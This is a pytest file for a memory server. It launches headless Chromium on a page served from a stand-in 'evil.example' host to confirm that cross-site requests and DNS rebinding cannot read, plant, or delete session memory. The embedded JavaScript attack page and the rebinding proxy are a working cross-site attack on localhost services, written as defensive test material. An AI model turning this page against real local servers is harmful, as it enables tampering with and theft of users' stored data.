"""A server without API keys, attacked by a page of another site in a real browser."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from langchain_motorhead import Motorhead
from langchain_motorhead.server import Settings, create_app
from support.http_servers import served
from support.rest import known, said


def test_a_real_browser(motorhead: Motorhead, tmp_path: Path) -> None:
    """A page of another site, in a real browser, can neither write nor read, whatever kind of request it makes."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("needs chromium")
    app = create_app(Settings(), motorhead=lambda _: motorhead)
    with served(app) as base, httpx.Client(base_url=base) as client, page_server() as (page, reports):
        client.post("/sessions/s/memory", json=said("mine"))
        port = base.rpartition(":")[2]
        targets = [f"http://127.0.0.1:{port}", f"http://localhost:{port}", ""]  # the last one is DNS rebinding
        reports.attacked = f"127.0.0.1:{port}"
        reports.page = PAGE.replace("TARGETS", json.dumps(targets))
        command = [
            browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
            f"--user-data-dir={tmp_path}", "--host-resolver-rules=MAP *.example 127.0.0.1", f"http://evil.example:{page}/",
        ]  # fmt: skip
        running = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            assert reports.done.wait(60)
        finally:
            running.kill()
            running.wait()
        assert reports.tried == 5 * len(targets)
        assert reports.read == []
        assert known(client, "s") == ["mine"]
        assert client.get("/sessions").json() == ["s"]


PAGE = """<!doctype html><script>
const body = JSON.stringify({messages: [{role: "Human", content: "planted"}]});
const read = []; let tried = 0;
async function attempt(url, options) {
  tried += 1;
  try {
    const answer = await fetch(url, options), text = await answer.text();
    if (answer.ok && text) read.push(text);
  } catch (error) {}
}
(async () => {
  for (const base of TARGETS) {
    const memory = base + "/sessions/s/memory";
    await attempt(memory, {method: "POST", mode: "no-cors", body});
    await attempt(memory, {method: "POST", mode: "no-cors", body: new Blob([body])});
    await attempt(memory, {method: "POST", headers: {"Content-Type": "application/json"}, body});
    await attempt(memory, {method: "DELETE"});
    await attempt(base + "/sessions", {});
  }
  await fetch("/report", {method: "POST", body: JSON.stringify({tried, read})});
})();
</script>"""


class Reports:
    """What the page is, which server it attacks, and what it reported."""

    def __init__(self) -> None:
        self.page = ""
        self.attacked = ""
        self.tried = 0
        self.read: list[str] = []
        self.done = threading.Event()


@contextmanager
def page_server() -> Iterator[tuple[int, Reports]]:
    """Serve a page of another site, and receive its report.

    Other requests to the site reach the attacked server as they are, as after its name was made to resolve to there.
    """
    reports = Reports()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/sessions"):
                self._rebind()
            else:
                self._answer(reports.page.encode() if self.path == "/" else b"")

        def do_DELETE(self) -> None:
            self._rebind()

        def do_POST(self) -> None:
            if self.path.startswith("/sessions"):
                self._rebind()
                return
            found = json.loads(self._body())
            reports.tried, reports.read = found["tried"], found["read"]
            self._answer(b"")
            reports.done.set()

        def _body(self) -> bytes:
            return self.rfile.read(int(self.headers.get("Content-Length", 0)))

        def _rebind(self) -> None:
            headers = dict(self.headers.items())
            assert headers["Host"].startswith("evil.example:")
            given = httpx.request(
                self.command, f"http://{reports.attacked}{self.path}", content=self._body(), headers=headers
            )
            self._answer(given.content, given.status_code)

        def _answer(self, data: bytes, status: int = 200) -> None:
            self.send_response(status)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_address[1], reports
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
